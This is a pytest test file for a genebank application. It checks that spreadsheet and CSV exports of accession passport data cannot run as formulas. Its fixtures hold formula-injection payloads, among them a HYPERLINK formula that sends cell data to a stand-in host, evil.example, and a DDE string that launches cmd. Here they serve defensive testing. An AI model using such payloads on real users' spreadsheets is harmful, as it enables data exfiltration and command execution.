"""Exported values never run as formulas: workbooks hold text only, the list's CSV download is
neutralised for spreadsheet programs, and the MCPD exchange file keeps the values' bytes."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from genebank.accessions.passport import MCPD_FIELDS
from genebank.core.spreadsheets import spreadsheet_text
from genebank.exchange.mcpd_export import export_mcpd
from tests.factories import AccessionFactory, AccessionNameFactory, CollectingEventFactory

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
HOSTILE = {
    "ACCENAME": LINK,
    "COLLNUMB": "=1+2",
    "REMARKS": "@SUM(1+1)*cmd|' /C calc'!A0",
    "COLLSITE": "+33 km N",
    "BREDNAME": "#N/A",
}


@pytest.fixture
def hostile(genebank):
    accession = AccessionFactory(
        institute=genebank, remarks=HOSTILE["REMARKS"], breeder_name=HOSTILE["BREDNAME"]
    )
    AccessionNameFactory(accession=accession, name=LINK)
    CollectingEventFactory(
        accession=accession,
        collector_number="=1+2",
        site="+33 km N",
        latitude="-12.500000",
        longitude="-77.030000",
        elevation=-30,
    )
    return accession


def assert_text_only(workbook_bytes: bytes) -> dict[str, str]:
    """No formula, no error cell in the sheet's XML; the row read back as written."""
    with zipfile.ZipFile(io.BytesIO(workbook_bytes)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
    sheet = load_workbook(io.BytesIO(workbook_bytes)).active
    rows = list(sheet.iter_rows())
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    header, values = [c.value for c in rows[0]], [c.value or "" for c in rows[1]]
    assert header == MCPD_FIELDS
    return dict(zip(MCPD_FIELDS, values, strict=True))


def test_cli_workbook_holds_text_not_formulas(hostile, tmp_path):
    path = tmp_path / "out.xlsx"
    export_mcpd(path)
    row = assert_text_only(path.read_bytes())
    for name, value in HOSTILE.items():
        assert row[name] == value, name  # intact, not quoted: a text cell needs no escaping
    assert row["DECLATITUDE"] == "-12.5" and row["ELEVATION"] == "-30"


def test_web_workbook_holds_text_not_formulas(client_for, viewer, hostile):
    response = client_for(viewer).get(reverse("accessions:export"), {"format": "xlsx"})
    row = assert_text_only(b"".join(response.streaming_content))
    assert row["ACCENAME"] == LINK and row["COLLNUMB"] == "=1+2"


def test_web_csv_is_neutralised_and_numbers_stay_numbers(client_for, viewer, hostile):
    response = client_for(viewer).get(reverse("accessions:export"), {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["ACCENAME"].startswith("'=") and row["ACCENAME"] == "'" + LINK
    assert row["COLLNUMB"] == "'=1+2"
    assert row["REMARKS"] == "'" + HOSTILE["REMARKS"]
    assert row["COLLSITE"] == "'+33 km N"
    assert (row["DECLATITUDE"], row["DECLONGITUDE"], row["ELEVATION"]) == ("-12.5", "-77.03", "-30")
    assert ",'=1+2," in text  # as a spreadsheet program reads the line


def test_public_web_csv_is_neutralised_too(client_for, viewer, hostile):
    response = client_for(viewer).get(
        reverse("accessions:export"), {"format": "csv", "public": "1"}
    )
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["COLLNUMB"] == "'=1+2"


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_exchange_file_keeps_the_bytes(hostile, tmp_path, fmt):
    """Other genebanks' software reads the MCPD file; a quote would change their data."""
    path = tmp_path / f"out.{fmt}"
    export_mcpd(path)
    with open(path, encoding="utf-8", newline="") as fh:
        (row,) = csv.DictReader(fh, delimiter="\t" if fmt == "tsv" else ",")
    for name, value in HOSTILE.items():
        assert row[name] == value, name


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1-2", "'+1-2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-12.5", "-12.5"),
        ("-30", "-30"),
        ("+5", "+5"),
        ("-.5", "-.5"),
        ("12.5", "12.5"),
        ("Hourani", "Hourani"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_spreadsheet_text(value, expected):
    assert spreadsheet_text(value) == expected
